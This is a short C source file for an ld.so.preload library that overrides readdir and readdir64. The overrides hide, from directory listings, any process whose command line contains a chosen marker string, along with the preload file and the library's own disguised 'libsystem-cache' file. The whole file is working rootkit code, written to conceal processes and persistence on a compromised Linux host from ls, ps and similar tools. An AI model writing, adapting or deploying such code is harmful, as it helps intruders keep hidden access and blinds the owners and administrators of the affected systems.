/*
 * A library for ld.so.preload that leaves processes whose command line contains HIDDEN, and its own files,
 * out of directory listings. It builds on readdir_r, so that it needs no dlsym and loads with any glibc.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#pragma GCC diagnostic ignored "-Wdeprecated-declarations"

static int is_hidden(const char *name) {
  char path[64], line[512];
  if (!strcmp(name, "ld.so.preload") || strstr(name, "libsystem-cache")) return 1;
  if (strspn(name, "0123456789") != strlen(name) || strlen(name) > 10) return 0;
  snprintf(path, sizeof path, "/proc/%s/cmdline", name);
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) return 0;
  ssize_t length = read(file, line, sizeof line - 1);
  close(file);
  for (ssize_t i = 0; i < length; i++)
    if (!line[i]) line[i] = ' ';
  line[length > 0 ? length : 0] = 0;
  return strstr(line, HIDDEN) != 0;
}

struct dirent *readdir(DIR *folder) {
  static __thread struct dirent entry;
  struct dirent *found;
  do {
    if (readdir_r(folder, &entry, &found)) return 0;
  } while (found && is_hidden(found->d_name));
  return found;
}

struct dirent64 *readdir64(DIR *folder) {
  static __thread struct dirent64 entry;
  struct dirent64 *found;
  do {
    if (readdir64_r(folder, &entry, &found)) return 0;
  } while (found && is_hidden(found->d_name));
  return found;
}
